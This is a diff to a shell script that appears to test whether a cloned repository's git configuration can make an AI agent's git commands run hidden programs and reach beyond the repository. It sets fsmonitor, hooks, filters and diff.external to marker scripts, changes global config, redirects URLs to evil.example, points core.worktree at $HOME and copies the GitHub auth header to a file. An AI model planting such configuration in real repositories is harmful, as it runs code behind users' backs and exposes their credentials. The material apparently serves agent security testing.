@@ -1,17 +1,21 @@
-# Has the clone's git run programs, log in and work elsewhere; each program leaves a mark that it ran.
-printf '#!/bin/sh\necho "$0 $*" >> "%s/ran"\ncat\n' "$ASIDE" > ../tmp/runs
-chmod +x ../tmp/runs
-mkdir hooks-of-mine && cp ../tmp/runs hooks-of-mine/pre-commit && cp ../tmp/runs hooks-of-mine/post-index-change
-git config core.fsmonitor "$PWD/../tmp/runs"
-git config core.hooksPath "$PWD/hooks-of-mine"
-git config diff.external "$PWD/../tmp/runs"
-for part in clean smudge; do git config filter.mine.$part "$PWD/../tmp/runs"; done
+# Has the clone's git run programs, log in and work elsewhere. Keeps proof that it did, as long as the agent lived.
+mkdir ../tmp/hooks
+for name in fsmonitor filter differ hooks/pre-commit hooks/post-index-change; do
+  printf '#!/bin/sh\necho "$0" >> "%s/ran"\n[ -t 0 ] || cat\n' "$ASIDE" > "../tmp/$name" && chmod +x "../tmp/$name"
+done
+git config core.fsmonitor "$PWD/../tmp/fsmonitor"
+git config core.hooksPath "$PWD/../tmp/hooks"
+git config diff.external "$PWD/../tmp/differ"
+git config filter.mine.clean "$PWD/../tmp/filter"
+git config filter.mine.smudge "$PWD/../tmp/filter"
+git config --global core.fsmonitor "$PWD/../tmp/fsmonitor"
 echo '*.txt filter=mine' > .git/info/attributes
 echo two > src/a.txt
 git add -A && git commit -qm 'Say two' && git status
-mv "$ASIDE/ran" "$ASIDE/ran-while-the-agent-lived"
 echo three > src/b.txt
 git config include.path "$HOME/checkout.gitconfig"
 git config url.https://evil.example/.insteadOf /
-git config --global alias.status '!touch "$ASIDE/ran"'
+git config http.https://github.com/.extraheader > "$ASIDE/read-while-the-agent-lived"
 git config core.worktree "$HOME"
+git ls-files --others > "$ASIDE/listed-while-the-agent-lived"
+mv "$ASIDE/ran" "$ASIDE/ran-while-the-agent-lived"
